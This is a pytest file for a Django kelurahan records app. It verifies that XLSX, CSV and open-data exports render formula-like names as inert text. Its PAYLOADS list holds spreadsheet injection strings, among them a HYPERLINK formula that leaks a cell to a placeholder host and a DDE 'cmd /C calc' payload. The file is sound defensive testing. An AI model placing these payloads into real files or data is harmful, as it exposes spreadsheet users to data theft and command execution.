"""Formula-safe exports: text that a spreadsheet would run stays text.

Kelurahan names are edited by office staff and reach the XLSX and CSV recaps and the public
open data files. Each payload below becomes a kelurahan's name and kecamatan name; every
file is read back the way a spreadsheet user's tools read it (openpyxl, csv).
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from kelurahan.exports.cells import csv_cell, looks_like_formula
from tests.support import factories
from tests.support.heldsessions import at, held

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&B3,"Gambir")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
RECAP = {"period": "month", "month": 3, "year": 2025, "group": "kelurahan"}


@pytest.fixture
def poisoned(db):
    """One kelurahan (in a kecamatan) per payload, and one session held in March 2025 each."""
    places = []
    for n, payload in enumerate(PAYLOADS):
        kecamatan = factories.kecamatan(kode=f"31.71.{50 + n}", name=payload)
        places.append(factories.kelurahan(kecamatan=kecamatan, name=payload))
    return places


def test_formula_rule_covers_every_dangerous_start_and_nothing_else():
    assert all(looks_like_formula(payload) for payload in PAYLOADS)
    assert not any(looks_like_formula(v) for v in ("Gambir", "Kebon-Kosong", 5, -2, None, ""))
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("Gambir") == "Gambir" and csv_cell(-2) == -2


def download(client, user, name, params=None) -> bytes:
    client.force_login(user)
    response = client.get(reverse(name), params or {})
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def test_recap_xlsx_writes_formula_like_names_as_text_cells(client, staff_user, poisoned):
    content = download(client, staff_user, "admin:kelurahan_recap_xlsx", RECAP)

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    # XML turns a carriage return into a line feed on reading; the cell is text either way.
    expected = {payload.replace("\r", "\n") for payload in PAYLOADS}
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value in expected]
    assert {cell.value for cell in cells} == expected
    assert len(cells) == 2 * len(PAYLOADS)  # the kelurahan and its kecamatan
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
    every = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in every if cell.data_type == "f"]


def test_recap_csv_prefixes_formula_like_names_with_an_apostrophe(client, staff_user, poisoned):
    content = download(client, staff_user, "admin:kelurahan_recap_csv", RECAP)

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    for payload in PAYLOADS:
        assert cells.count("'" + payload) == 2, payload
    assert not [cell for cell in cells if looks_like_formula(cell)]


def test_open_data_csv_files_prefix_formula_like_names(client, poisoned):
    for place in poisoned:
        held(place, at(2025, 3, 5), men=1, women=1)
    factories.office(name='=HYPERLINK("http://example.invalid")')
    # Reports of a month that has ended, at an office whose name is a payload.
    office = factories.office(name="@SUM(A1)")
    for _ in range(5):
        report = factories.report(factories.kelurahan(office=office))
        report.__class__.objects.filter(pk=report.pk).update(submitted_at=at(2025, 3, 6))

    statistics = client.get(reverse("public:opendata_csv")).content.decode("utf-8")
    reports = client.get(reverse("public:opendata_reports_csv")).content.decode("utf-8")

    rows = list(csv.DictReader(io.StringIO(statistics, newline="")))
    assert sorted(row["kelurahan"] for row in rows) == sorted("'" + p for p in PAYLOADS)
    assert sorted(row["kecamatan"] for row in rows) == sorted("'" + p for p in PAYLOADS)
    offices = [row["office"] for row in csv.DictReader(io.StringIO(reports, newline=""))]
    assert offices == ["'@SUM(A1)"]
    cells = [cell for row in csv.reader(io.StringIO(statistics + reports)) for cell in row]
    assert not [cell for cell in cells if looks_like_formula(cell)]
